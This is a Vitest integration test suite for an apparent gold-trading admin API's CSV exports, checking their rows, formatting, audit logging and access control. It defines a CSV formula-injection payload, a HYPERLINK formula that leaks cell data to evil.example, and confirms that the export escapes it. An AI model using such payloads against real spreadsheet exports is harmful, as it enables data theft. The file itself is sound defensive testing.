import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { CLOSED_STATUSES, OPEN_STATUSES } from '@aurum/domain/orders/open-statuses';
import { startTestServer, type TestServer } from '../../testing/test-server.ts';
import { client, type Answer } from '../../testing/client.ts';
import { ORDER_EXPORT_COLUMNS } from '../../modules/orders/order-export-routes.ts';
import { orderExportBatches } from '../../modules/orders/order-read-service.ts';
import { csvChunks, pagedRows } from '../csv-export.ts';

const driver = process.env.AURUM_TEST_DB === 'postgres' ? 'postgres' : 'pglite';
const S = '/v0/web/secure';
const INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

type Item = Record<string, unknown>;
type ConnectionAnswer = { data: { adminOrdersConnection: { edges: Array<{ node: Item }>; pageInfo: { endCursor: string | null; hasNextPage: boolean } } } };

/** A cell as a spreadsheet user reads it back: a leading apostrophe before = + - @ TAB CR is the escape. */
const unescapeCell = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
/** What the list's JSON says a column holds, written as text: '' for null, JSON for arrays and objects. */
function jsonText(item: Item, column: string): string {
  let v: unknown = item;
  for (const key of column.split('.')) v = v === null || v === undefined ? null : (v as Item)[key];
  if (v === null || v === undefined) return '';
  return typeof v === 'object' ? JSON.stringify(v) : String(v);
}

describe(`CSV export of every list, on ${driver}`, () => {
  let ts: TestServer;
  let api: ReturnType<typeof client>;
  let jwt: string;
  const userIds: number[] = [];

  /** GET an export: status, the raw text and its rows parsed (BOM dropped by csv-parse). */
  async function exportOf(list: string, search = '', token = jwt) {
    const r = await fetch(`${ts.url}${S}/export/${list}${search ? `?${search}` : ''}`, { headers: { authorization: `Bearer ${token}` } });
    const bytes = new Uint8Array(await r.arrayBuffer());
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    const rows = r.status === 200 ? (parse(text, { bom: true }) as string[][]) : [];
    return { status: r.status, type: r.headers.get('content-type'), disposition: r.headers.get('content-disposition'), bytes, text, rows };
  }

  /** Every item of a paged list (GET, limit/page) for a filter, page by page. */
  async function pagedJson(path: string, search: string): Promise<Item[]> {
    const items: Item[] = [];
    for (let page = 1; ; page++) {
      const r = await api.call<{ items: Item[] }>('GET', `${S}/${path}?${search}${search ? '&' : ''}limit=10&page=${page}`, { token: jwt });
      expect(r.status, r.text).toBe(200);
      items.push(...r.body.items);
      if (r.body.items.length < 10) return items;
    }
  }

  /** Every order of the GraphQL connection for its filter variables, forward by cursor. */
  async function connectionJson(variables: Record<string, unknown>): Promise<Item[]> {
    const fields = ORDER_EXPORT_COLUMNS.join(' ');
    const query = `query($after: String, $status: [OrderStatus!], $userInput: String, $userCondition: UserCondition, $action: OrderAction) {
      adminOrdersConnection(first: 3, after: $after, status: $status, userInput: $userInput, userCondition: $userCondition, action: $action) {
        edges { node { ${fields} } } pageInfo { endCursor hasNextPage } } }`;
    const items: Item[] = [];
    let after: string | null = null;
    for (;;) {
      const r: Answer<ConnectionAnswer> = await api.call<ConnectionAnswer>(
        'POST',
        `${S}/graphql`,
        { token: jwt, body: { query, variables: { ...variables, after } } },
      );
      expect(r.status, r.text).toBe(200);
      const c: ConnectionAnswer['data']['adminOrdersConnection'] = r.body.data.adminOrdersConnection;
      items.push(...c.edges.map((e) => e.node));
      if (!c.pageInfo.hasNextPage) return items;
      after = c.pageInfo.endCursor;
    }
  }

  /** The export of a list and its JSON for the same filter: same header, same rows in the same order, same values. */
  async function expectSame(list: string, search: string, json: Item[], minRows = 1) {
    const file = await exportOf(list, search);
    expect(file.status, `${list}: ${file.text.slice(0, 200)}`).toBe(200);
    expect(file.type).toMatch(/^text\/csv; charset=utf-8/);
    expect(file.disposition).toMatch(new RegExp(`^attachment; filename="${list.replace(/_/g, '-')}-\\d{8}T\\d{6}Z\\.csv"$`));
    // UTF-8 with a byte-order mark, CRLF line ends
    expect([...file.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.text.split('\r\n').length).toBeGreaterThan(1);
    const [header, ...rows] = file.rows;
    expect(json.length, `${list}: the filter matches rows`).toBeGreaterThanOrEqual(minRows);
    expect(rows.length, list).toBe(json.length);
    rows.forEach((row, i) => {
      const item = json[i]!;
      const got = Object.fromEntries(header!.map((column, j) => [column, unescapeCell(row[j]!)]));
      const want = Object.fromEntries(header!.map((column) => [column, jsonText(item, column)]));
      expect(got, `${list} row ${i}`).toEqual(want);
    });
    // every field of the list's JSON has its column (nested objects as parent.child)
    const columns = new Set(header);
    for (const item of json) for (const key of Object.keys(item)) expect([...columns].some((c) => c === key || c.startsWith(`${key}.`)), `${list}: ${key}`).toBe(true);
    return { header: header!, rows };
  }

  beforeAll(async () => {
    ts = await startTestServer();
    api = client(ts);
    jwt = (await api.login(ts.demo.superAdmin.username, ts.demo.superAdmin.password)).body.jwt;
    const [admin] = await ts.db.query<{ id: number }>('SELECT id FROM admins ORDER BY id LIMIT 1');
    const names: Array<[string, string, string]> = [
      ['exp_alice', 'Alice', 'Tan'],
      ['exp_chinese', '王小明', '陳'],
      ['exp_evil', INJECTED, '+60 formula'],
      ['exp_quote', 'Say "hi", there', ' padded '],
      ['exp_minus', '-minus', '@at'],
    ];
    for (const [username, first, last] of names) {
      const [u] = await ts.db.query<{ id: number }>(
        "INSERT INTO users (username, email, first_name, last_name, category, phone_country_code, phone_number, company_name) VALUES ($1, $2, $3, $4, 'individual', '60', $6, $5) RETURNING id",
        [username, `${username}@example.com`, first, last, username === 'exp_evil' ? '=1+2' : null, `1234567${userIds.length}`],
      );
      userIds.push(u!.id);
    }
    const [alice, chinese, evil, quote, minus] = userIds as [number, number, number, number, number];
    for (const [userId, status, number] of [
      [alice, 'pending', '111111'],
      [chinese, 'approved', '222222'],
      [evil, 'pending', '333333'],
      [quote, 'declined', '444444'],
    ] as const) {
      await ts.db.query(
        `INSERT INTO bank_accounts (user_id, bank_name, account_owner, account_number, status, submitted_by, decided_at, approved_at, decided_by)
         VALUES ($1, 'Maybank', $2, $3, $4, $5, CASE WHEN $4 = 'pending' THEN NULL ELSE now() END, CASE WHEN $4 = 'approved' THEN now() ELSE NULL END, CASE WHEN $4 = 'pending' THEN NULL ELSE $5::bigint END)`,
        [userId, userId === evil ? INJECTED : 'Owner', number, status, admin!.id],
      );
    }
    // a removed account is not exported
    await ts.db.query("INSERT INTO bank_accounts (user_id, bank_name, account_owner, account_number, status, removed_at) VALUES ($1, 'Old', 'Old', '999999', 'removed', now())", [minus]);
    const statuses = ['CREATED', 'FILLED', 'SETTLED', 'OVERDUE', 'PAID', 'CANCELED', 'REFUNDED', 'REVERTED'];
    for (let i = 0; i < 16; i++) {
      const status = statuses[i % statuses.length]!;
      await ts.db.query(
        `INSERT INTO orders (execution_id, user_id, action, order_type, status, symbol, currency, quantity_gram, amount, cost_price, customized_adjustment, note, filled_at)
         VALUES ($1, $2, $3, 'OFF_LINE', $4, 'XAU/MYR', 'MYR', $5, $6, '412.125', $7, $8, CASE WHEN $4 = 'CREATED' THEN NULL ELSE now() END)`,
        [`EXP${i}`, userIds[i % userIds.length], i % 2 ? 'SELL' : 'BUY', status, `${i + 1}.0005`, `${1234 + i}.56`, i % 3 ? null : `-${i}.125`, i === 3 ? INJECTED : i === 4 ? '黃金 order' : null],
      );
    }
    for (let i = 0; i < 6; i++) {
      const action = (['deposit', 'withdrawal', 'transfer'] as const)[i % 3];
      await ts.db.query(
        `INSERT INTO payment_requests (action, method, type, amount, quantity, status, user_id, receiver_user_id, note, submitted_by, decided_at)
         VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, CASE WHEN $6 = 'pending' THEN NULL ELSE now() END)`,
        [
          action,
          action === 'transfer' ? null : i % 2 ? 'physicalGold' : 'bankTransfer',
          i % 2 ? 'XAU' : 'MYR',
          i % 2 ? null : `${100 + i}.10`,
          i % 2 ? `${i}.0001` : null,
          i < 3 ? 'pending' : 'approved',
          userIds[i % 5],
          action === 'transfer' ? userIds[(i + 1) % 5] : null,
          i === 0 ? INJECTED : null,
          admin!.id,
        ],
      );
    }
    await ts.db.query("INSERT INTO holidays (name, date) VALUES ('Hari Raya', '2031-03-31'), ($1, '2031-05-01'), ('農曆新年', '2031-01-23')", [INJECTED]);
    await ts.db.query("INSERT INTO notifications (subject, content, recipients, created_by) VALUES ('Maintenance', 'Tonight', 'all', $1), ($2, '中文 內容', 'selected', $1)", [admin!.id, INJECTED]);
  });
  afterAll(() => ts?.close());

  it('exports every list with the same rows and values as its JSON for the same filter', async () => {
    await expectSame('users', 'q=exp_&sort=username&order=desc', await pagedJson('user/list', 'q=exp_&sort=username&order=desc'), 5);
    await expectSame('users', 'category=individual&condition=USER_NAME&input=exp', await pagedJson('user/list', 'category=individual&condition=USER_NAME&input=exp'), 5);
    await expectSame('admins', 'sort=username', await pagedJson('admin/list', 'sort=username'), 2);
    await expectSame('admins', 'role=superAdmin', await pagedJson('admin/list', 'role=superAdmin'));
    await expectSame('orders', '', await connectionJson({}), 16);
    await expectSame('orders', 'status=CREATED,Filled&userInput=exp_&action=BUY', await connectionJson({ status: ['CREATED', 'FILLED'], userInput: 'exp_', action: 'BUY' }), 2);
    await expectSame('trade_requests', '', await connectionJson({ status: OPEN_STATUSES }), 8);
    await expectSame('trade_history', `userCondition=USER_ID&userInput=${userIds[0]}`, await connectionJson({ status: CLOSED_STATUSES, userCondition: 'USER_ID', userInput: String(userIds[0]) }));
    // a status outside the list's mode matches nothing, as on screen
    expect((await exportOf('trade_history', 'status=CREATED')).rows).toHaveLength(1);
    await expectSame('deposits', '', await pagedJson('asset/list', 'action=deposit'), 2);
    await expectSame('deposits', 'status=pending&sort=createdAt&order=desc', await pagedJson('asset/list', 'action=deposit&status=pending&sort=createdAt&order=desc'), 1);
    await expectSame('withdrawals', '', await pagedJson('asset/list', 'action=withdrawal'), 2);
    await expectSame('transfers', `userId=${userIds[2]}`, await pagedJson('asset/list', `action=transfer&userId=${userIds[2]}`), 1);
    await expectSame('holidays', '', (await api.call<Item[]>('GET', `${S}/holiday`, { token: jwt })).body as unknown as Item[], 3);
    await expectSame('notifications', 'sort=subject&order=desc', await pagedJson('notification/list', 'sort=subject&order=desc'), 2);
    // bank accounts have no list of their own: each user's JSON (GET user/{id}) holds its live account
    const bankJson = async (status: string | null) => {
      const out: Item[] = [];
      for (const { id } of (await pagedJson('user/list', '')) as Array<{ id: number }>) {
        const r = await api.call<{ profile: { username: string }; bankAccount: Item | null }>('GET', `${S}/user/${id}`, { token: jwt });
        const b = r.body.bankAccount;
        if (b && (status === null || b.status === status)) out.push({ userId: id, username: r.body.profile.username, ...b });
      }
      return out.sort((a, b) => (a.id as number) - (b.id as number));
    };
    await expectSame('bank_accounts', '', await bankJson(null), 4);
    await expectSame('bank_accounts', `userId=${userIds[2]}`, (await bankJson('pending')).filter((b) => b.userId === userIds[2]), 1);
    await expectSame('bank_accounts', 'status=pending', await bankJson('pending'), 2);
  });

  it('keeps decimals exactly as stored, dates in ISO 8601 with the zone, numbers as numbers and text formulas escaped', async () => {
    const { header, rows } = await expectSame('orders', '', await connectionJson({}), 16);
    const col = (name: string) => header.indexOf(name);
    const stored = await ts.db.query<{ execution_id: string; amount: string; quantity_gram: string; customized_adjustment: string | null }>(
      "SELECT execution_id, amount::text, quantity_gram::text, customized_adjustment::text FROM orders WHERE execution_id LIKE 'EXP%'",
    );
    for (const s of stored) {
      const row = rows.find((r) => r[col('executionId')] === s.execution_id)!;
      expect(row[col('amount')]).toBe(s.amount);
      expect(row[col('quantityGram')]).toBe(s.quantity_gram);
      // a negative decimal stays a number: no apostrophe
      expect(row[col('customizedAdjustment')]).toBe(s.customized_adjustment ?? '');
    }
    expect(rows.some((r) => r[col('customizedAdjustment')]!.startsWith('-'))).toBe(true);
    for (const r of rows) expect(r[col('createdAt')]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    expect(rows.map((r) => r[col('note')])).toContain(`'${INJECTED}`);
    expect(rows.map((r) => r[col('note')])).toContain('黃金 order');

    const users = await exportOf('users', 'q=exp_');
    const [uh, ...urows] = users.rows;
    const evil = urows.find((r) => r[uh!.indexOf('username')] === 'exp_evil')!;
    expect(evil[uh!.indexOf('firstName')]).toBe(`'${INJECTED}`);
    expect(evil[uh!.indexOf('lastName')]).toBe("'+60 formula");
    expect(evil[uh!.indexOf('companyName')]).toBe("'=1+2");
    expect(evil[uh!.indexOf('id')]).toBe(String(userIds[2]));
    const minus = urows.find((r) => r[uh!.indexOf('username')] === 'exp_minus')!;
    expect([minus[uh!.indexOf('firstName')], minus[uh!.indexOf('lastName')]]).toEqual(["'-minus", "'@at"]);
    // the raw file: the injected name is quoted and starts with the apostrophe, never with =
    expect(users.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(users.text).not.toMatch(/(^|,)=HYPERLINK/m);
    // Chinese names survive as UTF-8
    expect(urows.find((r) => r[uh!.indexOf('username')] === 'exp_chinese')![uh!.indexOf('firstName')]).toBe('王小明');
    // leading and trailing spaces are quoted so that they survive
    expect(users.text).toContain('," padded ",');
  });

  it('reads keyset batches across batch boundaries and leaves out orders created after the export began', async () => {
    const all = (await ts.db.query<{ id: number }>('SELECT id FROM orders ORDER BY id')).map((r) => r.id);
    const batches = orderExportBatches(ts.db, {}, 5);
    const first = await batches.next();
    expect(first.value).toHaveLength(5);
    // an order created now is after the export's start: not in this file
    await ts.db.query(
      "INSERT INTO orders (execution_id, user_id, action, order_type, status, symbol, currency, quantity_gram) VALUES ('EXPLATE', $1, 'BUY', 'MARKET', 'CREATED', 'XAU/MYR', 'MYR', 1)",
      [userIds[0]],
    );
    const ids = (first.value as Array<{ id: number }>).map((o) => o.id);
    for await (const batch of batches) {
      expect(batch.length).toBeLessThanOrEqual(5);
      ids.push(...batch.map((o) => o.id));
    }
    expect(ids).toEqual(all);
    // a page-by-page list stops at its first short page; the CSV counts what it wrote
    const sent = { rows: 0 };
    let text = '';
    for await (const chunk of csvChunks(['n'], pagedRows(async (page, limit) => ({ items: Array.from({ length: page < 3 ? limit : 1 }, (_, i) => ({ n: -i })) }), 2), sent)) text += chunk;
    expect(sent.rows).toBe(5);
    expect(text).toBe('\uFEFFn\r\n0\r\n-1\r\n0\r\n-1\r\n0\r\n');
  });

  it('writes one audit row per export with the list, the filter and the row count', async () => {
    const before = (await ts.db.query<{ id: number }>('SELECT coalesce(max(id), 0) AS id FROM audit_log'))[0]!.id;
    const file = await exportOf('deposits', 'status=pending');
    const rows = await ts.db.query<{ action: string; username: string; detail: { list: string; filter: Record<string, unknown>; rows: number; complete: boolean } }>(
      'SELECT action, username, detail FROM audit_log WHERE id > $1 ORDER BY id',
      [before],
    );
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ action: 'data.export', username: ts.demo.superAdmin.username });
    expect(rows[0]!.detail).toMatchObject({ list: 'deposits', filter: { status: 'pending' }, rows: file.rows.length - 1, complete: true });
  });

  it('refuses role none (403, 1150, one access.denied row) and bad filters (400, 1001, nothing written)', async () => {
    const none = ts.demo.byRole.none!;
    const noneJwt = (await api.login(none.username, none.password)).body.jwt;
    for (const list of ['users', 'orders', 'bank_accounts', 'audit_trail']) {
      const before = (await ts.db.query<{ id: number }>('SELECT coalesce(max(id), 0) AS id FROM audit_log'))[0]!.id;
      const r = await api.call('GET', `${S}/export/${list}`, { token: noneJwt });
      expect(r.status, list).toBe(403);
      expect(r.body).toMatchObject({ code: 1150 });
      const rows = await ts.db.query<{ action: string }>('SELECT action FROM audit_log WHERE id > $1', [before]);
      expect(rows.map((x) => x.action)).toEqual(['access.denied']);
    }
    expect((await api.call('GET', `${S}/export/users`)).status).toBe(401);
    const bad: Array<[string, string, string]> = [
      ['users', 'category=nope', 'query.category'],
      ['users', 'condition=USER_ID&input=abc', 'input'],
      ['admins', 'role=king', 'query.role'],
      ['orders', 'status=NOPE', 'query.status.0'],
      ['orders', 'createdAfter=yesterday', 'createdAfter'],
      ['orders', 'quantity=1e5', 'quantity'],
      ['trade_requests', 'orderId=x', 'query.orderId'],
      ['deposits', 'userId=-1', 'query.userId'],
      ['withdrawals', 'sort=password', 'query.sort'],
      ['bank_accounts', 'status=removed', 'query.status'],
      ['notifications', 'order=sideways', 'query.order'],
      ['audit_trail', 'from=2030-01-01', 'timeRange'],
    ];
    const before = (await ts.db.query<{ id: number }>('SELECT coalesce(max(id), 0) AS id FROM audit_log'))[0]!.id;
    for (const [list, search, context] of bad) {
      const r = await api.call('GET', `${S}/export/${list}?${search}`, { token: jwt });
      expect(r.status, `${list}?${search}: ${r.text}`).toBe(400);
      expect(r.body, `${list}?${search}`).toMatchObject({ code: 1001 });
      expect(r.body.context, `${list}?${search}`).toContain(context.replace(/^query\./, ''));
    }
    expect(await ts.db.query('SELECT action FROM audit_log WHERE id > $1', [before])).toEqual([]);
    expect((await api.call('GET', `${S}/export/nothing`, { token: jwt })).status).toBe(404);
  });

  it('is documented in OpenAPI with the filters as query parameters', async () => {
    const doc = (await api.call<{ paths: Record<string, { get?: { parameters?: Array<{ name: string; in: string }>; description?: string } }> }>('GET', '/docs/json')).body;
    const lists = ['users', 'admins', 'orders', 'trade_requests', 'trade_history', 'deposits', 'withdrawals', 'transfers', 'bank_accounts', 'holidays', 'notifications', 'audit_trail'];
    for (const list of lists) {
      const op = doc.paths[`${S}/export/${list}`]?.get;
      expect(op, list).toBeDefined();
      expect(op!.description, list).toContain('exportData');
    }
    const names = (list: string) => (doc.paths[`${S}/export/${list}`]!.get!.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name);
    expect(names('orders')).toEqual(expect.arrayContaining(['status', 'userInput', 'createdAfter', 'filledAt', 'quantity']));
    expect(names('users')).toEqual(expect.arrayContaining(['condition', 'input', 'category', 'sort', 'order']));
    expect(names('users')).not.toContain('page');
    expect(names('deposits')).not.toContain('action');
  });
});
